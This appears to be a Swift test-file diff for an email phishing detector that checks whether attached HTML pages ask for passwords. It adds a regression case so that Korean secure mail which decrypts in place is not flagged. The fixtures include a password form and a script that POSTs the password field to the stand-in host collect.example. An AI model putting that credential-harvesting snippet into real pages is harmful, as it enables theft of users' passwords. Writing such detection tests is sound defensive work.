@@ -110,10 +110,20 @@ struct PaymentDiversionAndAttachedPageTests {
     }
 
     @Test func aHugeAttachedPageIsReadOnlyToItsLimit() {
+        let form = "<form action=\"https://collect.example/p\"><input type=password></form>"
         let filler = String(repeating: "<p>text</p>", count: 100_000)
-        let page = AttachedPage(Array((filler + "<input type=password>").utf8))
-        #expect(!page.asksForPassword)
-        #expect(AttachedPage(Array("<input type=password>".utf8)).asksForPassword)
+        #expect(!AttachedPage(Array((filler + form).utf8)).asksForPassword)
+        #expect(AttachedPage(Array(form.utf8)).asksForPassword)
+    }
+
+    /// A Korean card statement's secure mail (보안메일) is an attached page that asks for the birth
+    /// date that decrypts it in place; it sends the password nowhere, and is no login page
+    /// (regression: ko-fresh4, held out, showed a ham marked Phishing by `attach-login-form`).
+    @Test func aSecureMailThatDecryptsInPlaceIsNoLoginPage() {
+        let secureMail = #"<html><body><p>보안메일: 생년월일 6자리를 입력하세요</p><input type="password" id="pw"><button onclick="decrypt()">확인</button></body></html>"#
+        #expect(!AttachedPage(Array(secureMail.utf8)).asksForPassword)
+        let posting = #"<html><input type="password" id="pw"><script>fetch("https://collect.example/p", {method: "POST", body: pw.value})</script></html>"#
+        #expect(AttachedPage(Array(posting.utf8)).asksForPassword)
     }
 
     /// Kakao's subsidiaries mail from their own domains (ko-fresh3: a Kakao T receipt from
